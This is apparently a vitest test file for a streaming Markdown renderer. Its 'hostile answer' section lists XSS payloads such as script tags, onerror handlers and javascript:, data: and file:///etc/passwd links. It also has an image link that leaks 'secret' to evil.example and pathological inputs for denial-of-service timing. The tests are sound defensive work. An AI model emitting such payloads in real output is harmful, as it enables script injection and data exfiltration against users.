import { describe, expect, it } from 'vitest';
import { nothing_read, readMarkdown, readOn, type Growing } from '../../web/src/ui/markdown/read.ts';
import type { Block } from '../../web/src/ui/markdown/tree.ts';

const textOf = (blocks: readonly Block[]) => JSON.stringify(blocks);

/** As a stream brings it, some letters at a time. */
function grown(text: string, step: number): Growing {
  let read: Growing = nothing_read;
  for (let end = step; end < text.length + step; end += step) read = readOn(read, text.slice(0, end));
  return read;
}

describe('an answer in Markdown', () => {
  it('has headings, lists, tables, code and formulas', () => {
    const text = [
      '## Result',
      '',
      'A **bold** _word_, ~~gone~~, `x < y` and [a page](https://example.com/a?b=c).',
      '',
      '3. three',
      '4. four',
      '',
      '- [x] done',
      '- [ ] open',
      '',
      '| a | b |',
      '|:--|--:|',
      '| 1 | $x^2$ |',
      '',
      '```python',
      'print(1)',
      '```',
      '',
      '$$',
      '\\frac{1}{2}',
      '$$',
    ].join('\n');
    expect(readMarkdown(text)).toEqual([
      { kind: 'heading', level: 2, parts: [{ kind: 'text', text: 'Result' }] },
      {
        kind: 'paragraph',
        parts: [
          { kind: 'text', text: 'A ' },
          { kind: 'strong', parts: [{ kind: 'text', text: 'bold' }] },
          { kind: 'text', text: ' ' },
          { kind: 'emphasis', parts: [{ kind: 'text', text: 'word' }] },
          { kind: 'text', text: ', ' },
          { kind: 'deleted', parts: [{ kind: 'text', text: 'gone' }] },
          { kind: 'text', text: ', ' },
          { kind: 'code', text: 'x < y' },
          { kind: 'text', text: ' and ' },
          { kind: 'link', href: 'https://example.com/a?b=c', parts: [{ kind: 'text', text: 'a page' }] },
          { kind: 'text', text: '.' },
        ],
      },
      {
        kind: 'list',
        start: 3,
        items: [
          { checked: undefined, blocks: [{ kind: 'paragraph', parts: [{ kind: 'text', text: 'three' }] }] },
          { checked: undefined, blocks: [{ kind: 'paragraph', parts: [{ kind: 'text', text: 'four' }] }] },
        ],
      },
      {
        kind: 'list',
        start: undefined,
        items: [
          { checked: true, blocks: [{ kind: 'paragraph', parts: [{ kind: 'text', text: 'done' }] }] },
          { checked: false, blocks: [{ kind: 'paragraph', parts: [{ kind: 'text', text: 'open' }] }] },
        ],
      },
      {
        kind: 'table',
        align: ['left', 'right'],
        header: [[{ kind: 'text', text: 'a' }], [{ kind: 'text', text: 'b' }]],
        rows: [[[{ kind: 'text', text: '1' }], [{ kind: 'formula', tex: 'x^2', is_block: false }]]],
      },
      { kind: 'code', text: 'print(1)', language: 'python' },
      { kind: 'formula', tex: '\\frac{1}{2}' },
    ]);
  });

  it.each([
    ['$5 and $10', false],
    ['it costs $5, or 10$', false],
    ['$ x $', false],
    ['$x$', true],
    ['$\\$5$', true],
    ['\\(a+b\\)', true],
    ['\\[a+b\\]', true],
    ['`$x$`', false],
  ])('reads a formula in %s: %s', (text, is_formula) => {
    expect(textOf(readMarkdown(text)).includes('"formula"')).toBe(is_formula);
  });
});

describe('a hostile answer', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'text <b onclick="alert(1)">b</b> <iframe src="https://example.com"></iframe>',
    '<style>*{display:none}</style>',
    '<!-- <script>alert(1)</script> -->',
  ])('is text where it is HTML: %s', (text) => {
    const blocks = readMarkdown(text);
    expect(new Set(blocks.map(({ kind }) => kind))).toEqual(new Set(['paragraph']));
    const parts = blocks.flatMap((block) => (block.kind === 'paragraph' ? block.parts : []));
    expect(parts.map((part) => (part.kind === 'text' ? part.text : part.kind)).join('')).toBe(text);
  });

  it.each([
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java\u0000script:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '[a](vbscript:x)',
    '[a](file:///etc/passwd)',
    '[a](/dash/accounts)',
    '[a](//example.com)',
    '[a](https://bank.example@evil.example/)',
    '<javascript:alert(1)>',
    '[a]: javascript:alert(1)\n\n[a]',
    '![a](javascript:alert(1))',
    '![a](data:image/svg+xml;base64,PHN2Zz4=)',
    '![a](data:text/html;base64,PHN2Zz4=)',
  ])('has no link and no image: %s', (text) => {
    expect(textOf(readMarkdown(text))).not.toMatch(/"kind":"(?:link|image)"/);
  });

  it('loads no image from elsewhere: it becomes a link', () => {
    expect(readMarkdown('![secret](https://evil.example/p.png?q=secret)')).toEqual([
      {
        kind: 'paragraph',
        parts: [
          {
            kind: 'link',
            href: 'https://evil.example/p.png?q=secret',
            parts: [{ kind: 'text', text: 'Image: secret' }],
          },
        ],
      },
    ]);
    const own = readMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)');
    expect(textOf(own)).toContain('"kind":"image"');
  });

  it.each([
    ['brackets', '['.repeat(100_000)],
    ['stars', '*a '.repeat(40_000)],
    ['underscores and stars', '_*'.repeat(50_000)],
    ['backticks', '`a'.repeat(50_000)],
    ['dollars', '$a'.repeat(50_000)],
    ['parentheses of formulas', '\\('.repeat(50_000)],
    ['quotes', '>'.repeat(50_000)],
    ['nested lists', Array.from({ length: 2_000 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
    ['an image without its end', `![${'a'.repeat(50_000)}](`],
    ['links in links', '[a]('.repeat(30_000)],
    ['angle brackets', '<a '.repeat(30_000)],
    ['short blocks of stars', `${'*a '.repeat(600)}\n\n`.repeat(10)],
    ['short blocks of brackets', `${'['.repeat(1_900)}\n\n`.repeat(10)],
    ['short blocks of dollars', `${'$a '.repeat(600)}\n\n`.repeat(10)],
    ['short blocks of backticks', `${'`'.repeat(9)}${'a`'.repeat(900)}\n\n`.repeat(10)],
    ['a wide table', `|${'a|'.repeat(900)}\n|${'-|'.repeat(900)}\n`.repeat(5)],
    ['dollars in blocks', `$$\n${'a $'.repeat(600)}\n\n`.repeat(10)],
    ['fences', '```\n'.repeat(30_000)],
    ['entities', '&amp;'.repeat(20_000)],
  ])('of many %s is read in moments', (_name, text) => {
    const began_ms = performance.now();
    const shown = textOf(readMarkdown(text));
    expect(performance.now() - began_ms).toBeLessThan(10_000);
    expect(shown.length).toBeGreaterThan(0);
  });
});

describe('an answer that grows', () => {
  const text = [
    '# One',
    '',
    'Some *words* and\nmore of them.',
    '',
    '- a',
    '- b',
    '',
    '  still b',
    '',
    '```ts',
    'const x = 1;',
    '',
    'const y = 2;',
    '```',
    '',
    '| a |',
    '|---|',
    '| 1 |',
    '',
    '$$x$$',
    '',
    'End',
  ].join('\n');

  it.each([1, 3, 7, 50])('comes to the same as one that is read at once, %i letters at a time', (step) => {
    const { blocks, rest } = grown(text, step);
    expect([...blocks, ...rest]).toEqual(readMarkdown(text));
  });

  it('keeps the blocks that are whole as they are, so that they are not drawn again', () => {
    const first = readOn(nothing_read, 'One\n\nTwo\n\nThr');
    const second = readOn(first, 'One\n\nTwo\n\nThree');
    expect(second.blocks.length).toBe(2);
    expect(second.blocks).toBe(first.blocks);
  });

  it('begins anew with a text that is another one', () => {
    const { blocks, rest } = readOn(readOn(nothing_read, 'One\n\nTwo\n\nThree'), 'Else');
    expect([...blocks, ...rest]).toEqual(readMarkdown('Else'));
  });

  it('costs what its length is, and not the square of it: only its last block is read again', () => {
    const long = `${'word '.repeat(20)}and **bold**.\n\n- one\n- two\n\n`.repeat(300);
    let read: Growing = nothing_read;
    let read_again = 0;
    for (let end = 50; end <= long.length; end += 50) {
      read_again = Math.max(read_again, end - read.rest_at);
      read = readOn(read, long.slice(0, end));
    }
    expect(long.length).toBeGreaterThan(30_000);
    expect(read_again).toBeLessThan(400);
  });
});
